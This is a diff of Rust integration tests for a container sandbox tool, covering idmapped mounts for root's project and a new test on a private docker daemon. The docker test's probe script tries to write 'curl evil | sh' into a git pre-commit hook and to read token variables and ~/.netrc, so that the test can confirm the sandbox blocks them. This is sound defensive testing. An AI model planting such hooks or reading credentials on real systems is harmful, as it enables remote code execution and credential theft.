@@ -96,8 +96,10 @@ fn in_image(fx: &Fixture, env: &[(String, String)], extra: &[&str], script: &str
     run(fx.runner.command(&argv, env, &fx.project), what)
 }
 
-/// The project is there at its own path, read-write (as the plain user: rootless podman keeps
-/// its owner); git's hooks, which the host runs at the next commit, are read-only (A4/A14).
+/// The project is there at its own path, read-write, and what is made there is the runner's
+/// (rootless podman keeps the plain user's ids; root's project is bound from an idmapped copy,
+/// detached after the run); git's hooks, which the host runs at the next commit, are read-only
+/// (A4/A14).
 #[test]
 fn image_shows_the_project_at_its_path_and_its_protected_names_read_only() {
     for r in runners() {
@@ -142,21 +144,27 @@ fn image_shows_the_project_at_its_path_and_its_protected_names_read_only() {
             inn.has("Read-only file system"),
             "[{r}] refused by a read-only mount:{inn}"
         );
+        // As root too: the container's nobody writes root's project through an idmapped copy.
+        assert!(
+            inn.has("wrote") && fx.project.join("made-inside").exists(),
+            "[{r}] the project is writable, and the write lands in it:{inn}"
+        );
+        let out = fx.outside("stat -c %u made-inside");
+        assert_eq!(
+            out.stdout.trim(),
+            r.uid.to_string(),
+            "[{r}] the new file is the runner's:{out}"
+        );
         if r.is_root() {
-            // Rootful podman runs a root caller's command as nobody, and runc 1.1 has no
-            // idmapped mounts: root's project is writable only where nobody may write.
-            note("[root] --image: the container runs as nobody; root's project is not writable there");
-        } else {
-            assert!(
-                inn.has("wrote") && fx.project.join("made-inside").exists(),
-                "[{r}] the project is writable, and the write lands in it:{inn}"
-            );
-            let out = fx.outside("stat -c %u made-inside");
-            assert_eq!(
-                out.stdout.trim(),
-                r.uid.to_string(),
-                "[{r}] the new file is the runner's:{out}"
-            );
+            // No mount of this project's is left under the attached copies' directory (other
+            // tests' runs may have theirs there now).
+            let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
+            let project = fx.project.display().to_string();
+            let left = mounts.lines().any(|l| {
+                let f: Vec<&str> = l.split(' ').collect();
+                f.len() > 4 && f[3] == project && f[4].starts_with("/run/keepout-idmapped/")
+            });
+            assert!(!left, "[{r}] the idmapped copy is detached after the run");
         }
     }
 }
@@ -285,7 +293,11 @@ fn image_print_policy_shows_the_engine_command_line() {
             "--security-opt no-new-privileges",
             "--read-only",
             "--network none",
-            &format!("--volume {project}:{project}:rw"),
+            // Root's project from its idmapped copy (said below the command line).
+            &match r.is_root() {
+                true => format!(":{project}:rw"),
+                false => format!("--volume {project}:{project}:rw"),
+            },
             &format!("--volume {project}/.git/hooks:{project}/.git/hooks:ro"),
             &format!("--workdir {project} {IMAGE} sh -c"),
         ] {
@@ -299,12 +311,18 @@ fn image_print_policy_shows_the_engine_command_line() {
                 line.contains("--userns keep-id"),
                 "[{r}] rootless: keep-id:{inn}"
             );
+        } else {
+            assert!(
+                line.contains(&format!("{project} attached there first, idmapped")),
+                "[{r}] root: where the project's copy is attached is said:{inn}"
+            );
         }
         assert!(
             !inn.has(&fx.secret("GITHUB_TOKEN")),
             "[{r}] no token in it:{inn}"
         );
-        assert_eq!(line.lines().count(), 1, "[{r}] one line:{inn}");
+        let commands = line.lines().filter(|l| !l.starts_with('#')).count();
+        assert_eq!(commands, 1, "[{r}] one command line (and comments):{inn}");
     }
 }
 
@@ -400,11 +418,6 @@ fn image_what_the_run_leaves_for_the_host_is_moved_aside() {
             !envrc.exists(),
             "[{r}] no .envrc under its name after the run:{inn}"
         );
-        if r.is_root() {
-            // The container's nobody cannot write root's project at all.
-            assert!(!inn.has("planted"), "[{r}] not written:{inn}");
-            continue;
-        }
         assert!(inn.has("planted"), "[{r}] the run wrote it:{inn}");
         let aside = std::fs::read_dir(&fx.project)
             .unwrap()
@@ -473,15 +486,6 @@ fn image_refuses_setuid_and_setgid_files_in_the_project() {
             let _ = std::fs::remove_file(fx.project.join(f));
         }
         let inn = in_image(&fx, &env, &[], script);
-        if r.is_root() {
-            // The container runs as nobody, which cannot write root's project at all.
-            let listed = |f: &str| inn.stdout.lines().any(|l| l == f);
-            assert!(
-                !listed("./suid") && !listed("./sgid"),
-                "[{r}] nothing set-id:{inn}"
-            );
-            continue;
-        }
         assert!(
             inn.has("chmod=1")
                 && inn.has("open=1")
@@ -805,16 +809,6 @@ fn image_review_holds_the_changes_until_apply() {
             "[{r}] nothing was written to the project:{inn}"
         );
         assert!(!fx.project.join("added.txt").exists(), "[{r}] no new file");
-        if r.is_root() {
-            // As in the other tests: a root caller's container runs as nobody, which may not
-            // write root's project; the writes are refused, and nothing is held.
-            assert!(
-                inn.has("Permission denied"),
-                "[{r}] the writes are refused:{inn}"
-            );
-            note("[root] --image --review: the container runs as nobody; root's project is not writable there");
-            continue;
-        }
         let listed = keepout_with(&fx, &["review", "--json"], &env);
         let list: serde_json::Value = serde_json::from_str(&listed.stdout).unwrap();
         let has = |path: &str, kind: &str| {
@@ -1012,4 +1006,162 @@ fn image_try_and_shell_run_the_workspace_in_the_image() {
         let rm = keepout_with(&fx, &["workspace", "rm", "img-1"], &env);
         assert!(rm.success(), "[{r}] rm:{rm}");
     }
+}
+
+/// A docker daemon of the test's own (its data, state and socket in a temporary directory, no
+/// bridge, no iptables), stopped and removed when dropped; `None`, with a note, where dockerd is
+/// not installed or does not start.
+struct PrivateDocker {
+    dir: tempfile::TempDir,
+    daemon: std::process::Child,
+}
+
+impl PrivateDocker {
+    fn start() -> Option<PrivateDocker> {
+        if !have("/usr/sbin/dockerd") || !have("docker") {
+            note("dockerd is not installed: the docker --image test did not run (apt-get install docker.io)");
+            return None;
+        }
+        let dir = tempfile::Builder::new()
+            .prefix("keepout-docker-")
+            .tempdir()
+            .unwrap();
+        let d = dir.path();
+        let log = std::fs::File::create(d.join("log")).unwrap();
+        let daemon = std::process::Command::new("/usr/sbin/dockerd")
+            .arg("--data-root")
+            .arg(d.join("data"))
+            .arg("--exec-root")
+            .arg(d.join("exec"))
+            .arg("--pidfile")
+            .arg(d.join("pid"))
+            .arg("--host")
+            .arg(format!("unix://{}", d.join("sock").display()))
+            .args([
+                "--bridge",
+                "none",
+                "--iptables=false",
+                "--ip6tables=false",
+                "--ip-masq=false",
+            ])
+            .args([
+                "--containerd-namespace",
+                "keepout-test",
+                "--containerd-plugins-namespace",
+                "keepout-test-p",
+            ])
+            .stdin(std::process::Stdio::null())
+            .stdout(log.try_clone().unwrap())
+            .stderr(log)
+            .spawn()
+            .unwrap();
+        let docker = PrivateDocker { dir, daemon };
+        for _ in 0..100 {
+            if docker.docker(&["info"]).status.success() {
+                return Some(docker);
+            }
+            std::thread::sleep(Duration::from_millis(200));
+        }
+        let log = std::fs::read_to_string(docker.dir.path().join("log")).unwrap_or_default();
+        note(&format!(
+            "dockerd did not start: the docker --image test did not run:\n{log}"
+        ));
+        None
+    }
+
+    fn host(&self) -> String {
+        format!("unix://{}", self.dir.path().join("sock").display())
+    }
+
+    fn docker(&self, args: &[&str]) -> std::process::Output {
+        std::process::Command::new("docker")
+            .args(args)
+            .env("DOCKER_HOST", self.host())
+            .stdin(std::process::Stdio::null())
+            .output()
+            .unwrap()
+    }
+}
+
+impl Drop for PrivateDocker {
+    fn drop(&mut self) {
+        let _ = rustix::process::kill_process(
+            rustix::process::Pid::from_child(&self.daemon),
+            rustix::process::Signal::TERM,
+        );
+        let _ = self.daemon.wait();
+    }
+}
+
+/// `--engine docker` (root's rootful docker, a daemon of the test's own reached through
+/// `DOCKER_HOST`): the project at its path, writable through the idmapped copy with the new
+/// file root's, git's hooks read-only; none of the caller's tokens or credentials; the
+/// command's exit status; and what docker cannot do refused, saying so.
+#[test]
+fn image_with_docker_runs_the_same_policy() {
+    let Some(r) = runners().into_iter().find(|r| r.is_root()) else {
+        note("the docker --image test runs as root only (a rootful docker of its own)");
+        return;
+    };
+    let fx = Fixture::new(&r);
+    let Some(docker) = PrivateDocker::start() else {
+        return;
+    };
+    let tar = tarball();
+    let imported = docker.docker(&["import", &tar.display().to_string(), IMAGE]);
+    assert!(imported.status.success(), "docker import: {imported:?}");
+    let mut env = fx.env().to_vec();
+    env.push(("DOCKER_HOST".into(), docker.host()));
+    let hook = fx.project.join(".git/hooks/pre-commit");
+    let script = "pwd; cat README.md; touch made-inside && echo wrote; \
+                  echo 'curl evil | sh' > .git/hooks/pre-commit && echo planted; \
+                  env | grep -c _TOKEN; cat ~/.netrc 2>&1 | head -1; exit 3";
+    let inn = in_image(&fx, &env, &["--engine", "docker"], script);
+    assert_eq!(inn.code, Some(3), "[{r}] the command's exit status:{inn}");
+    let project = fx.project.display().to_string();
+    assert!(
+        inn.stdout.lines().next() == Some(project.as_str()) && inn.has("hello"),
+        "[{r}] the project at its own path:{inn}"
+    );
+    assert!(
+        inn.has("wrote") && fx.project.join("made-inside").exists(),
+        "[{r}] root's project is writable through the idmapped copy:{inn}"
+    );
+    let owner = fx.outside("stat -c %u made-inside");
+    assert_eq!(
+        owner.stdout.trim(),
+        "0",
+        "[{r}] the new file is root's:{owner}"
+    );
+    assert!(
+        !inn.has("planted") && !hook.exists(),
+        "[{r}] .git/hooks is read-only:{inn}"
+    );
+    assert!(
+        inn.stdout.lines().any(|l| l == "0"),
+        "[{r}] no token variable:{inn}"
+    );
+    for (_, value) in fx.secrets() {
+        assert!(!inn.has(&value), "[{r}] no secret of the caller's:{inn}");
+    }
+    assert!(
+        !inn.stdout.contains(&fx.credential(".netrc")),
+        "[{r}] no ~/.netrc of the caller's:{inn}"
+    );
+    let proxied = in_image(
+        &fx,
+        &env,
+        &["--engine", "docker", "--net", "pypi"],
+        "echo ran",
+    );
+    assert_eq!(proxied.code, Some(125), "[{r}] --net with docker:{proxied}");
+    assert!(
+        proxied.stderr.contains("not supported yet") && !proxied.has("ran"),
+        "[{r}] --net NAMES with docker is refused, saying so:{proxied}"
+    );
+    let left = docker.docker(&["ps", "--all", "--quiet"]);
+    assert!(
+        String::from_utf8_lossy(&left.stdout).trim().is_empty(),
+        "[{r}] no container is left: {left:?}"
+    );
 }
